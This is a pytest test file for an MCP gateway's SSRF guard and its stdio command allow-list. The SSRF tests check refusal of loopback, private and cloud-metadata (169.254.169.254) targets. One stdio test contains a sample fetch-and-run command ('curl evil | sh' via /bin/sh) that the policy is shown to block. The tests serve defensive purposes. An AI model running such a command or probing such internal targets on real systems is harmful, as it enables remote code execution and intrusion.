"""The SSRF guard and the stdio allow-list, with real name resolution (/etc/hosts' localhost)."""

from __future__ import annotations

import pytest

from gateway.upstream_policy import UpstreamPolicy, UpstreamRefused
from registry.specs import ServerSpec

pytestmark = pytest.mark.anyio


def http(url: str) -> ServerSpec:
    return ServerSpec(name="up", transport="http", url=url)


@pytest.mark.parametrize(
    ("url", "reason"),
    [
        ("http://127.0.0.1:8000/mcp", "loopback"),
        ("http://localhost:8000/mcp", "loopback"),  # a name: resolved, then checked
        ("http://169.254.169.254/latest/meta-data", "link-local"),  # cloud metadata
        ("http://10.1.2.3/mcp", "private"),
        ("http://192.168.0.10/mcp", "private"),
        ("http://172.16.5.5/mcp", "private"),
        ("http://[::1]:9000/mcp", "loopback"),
        ("http://[::ffff:127.0.0.1]/mcp", "loopback"),  # IPv4-mapped IPv6
        ("http://[fe80::1]/mcp", "link-local"),
        ("http://[fd00::5]/mcp", "private"),
        ("http://0.0.0.0:8080/mcp", "unspecified"),
        ("http://100.64.0.7/mcp", "carrier-grade NAT"),
    ],
)
async def test_non_public_targets_are_refused_by_default(url: str, reason: str) -> None:
    with pytest.raises(UpstreamRefused, match=reason) as refused:
        await UpstreamPolicy().check(http(url))
    assert "TOOLGATE_UPSTREAM_ALLOW_PRIVATE" in str(refused.value)  # says how to allow it


async def test_public_addresses_pass() -> None:
    await UpstreamPolicy().check(http("https://93.184.215.14/mcp"))
    await UpstreamPolicy().check(http("https://[2606:4700::1111]/mcp"))


async def test_a_name_that_does_not_resolve_is_refused() -> None:
    with pytest.raises(UpstreamRefused, match="cannot resolve"):
        await UpstreamPolicy().check(http("http://no-such-host.invalid/mcp"))


async def test_allow_lists_let_chosen_networks_and_hosts_through() -> None:
    policy = UpstreamPolicy.from_settings("127.0.0.0/8, 10.0.0.0/8", "")
    await policy.check(http("http://127.0.0.1:8000/mcp"))
    await policy.check(http("http://10.9.9.9/mcp"))
    with pytest.raises(UpstreamRefused):
        await policy.check(http("http://192.168.1.1/mcp"))
    with pytest.raises(UpstreamRefused, match="::1"):  # an IPv4 network does not cover IPv6 loopback
        await UpstreamPolicy.from_settings("127.0.0.0/8", "").check(http("http://[::1]/mcp"))

    by_name = UpstreamPolicy.from_settings("localhost", "")
    await by_name.check(http("http://localhost:8000/mcp"))
    await UpstreamPolicy.from_settings("*", "").check(http("http://169.254.169.254/"))


def test_bad_allow_list_entries_are_named() -> None:
    with pytest.raises(ValueError, match=r"10\.0\.0\.0/33"):
        UpstreamPolicy.from_settings("10.0.0.0/33", "")
    with pytest.raises(ValueError, match="http://x"):
        UpstreamPolicy.from_settings("http://x", "")


async def test_stdio_commands_follow_the_allow_list() -> None:
    anything = UpstreamPolicy()
    await anything.check(ServerSpec(name="s", command="/bin/sh", args=["-c", "true"]))
    policy = UpstreamPolicy.from_settings("", "mcp-server-time, /usr/bin/node")
    await policy.check(ServerSpec(name="s", command="mcp-server-time"))
    await policy.check(ServerSpec(name="s", command="/opt/venv/bin/mcp-server-time"))  # by its name
    await policy.check(ServerSpec(name="s", command="/usr/bin/node", args=["server.js"]))
    with pytest.raises(UpstreamRefused, match="'/bin/sh' is not allowed"):
        await policy.check(ServerSpec(name="s", command="/bin/sh", args=["-c", "curl evil | sh"]))


async def test_the_pool_checks_again_before_every_connection() -> None:
    """A server registered while allowed (or re-pointed by DNS since) is refused at connect
    time; the refusal is the gateway's own, so the upstream's circuit stays closed."""
    from gateway.upstream import UpstreamError, UpstreamPool

    spec = http("http://127.0.0.1:9/mcp")
    async with UpstreamPool(connect_check=UpstreamPolicy().check, circuit_failures=1) as pool:
        for _ in range(3):
            with pytest.raises(UpstreamError, match=r"refused to connect to up: .*loopback"):
                await pool.list_tools(spec)
        assert pool.circuits()["up"].state == "closed"
        assert pool.status("up").connect_attempts == 0
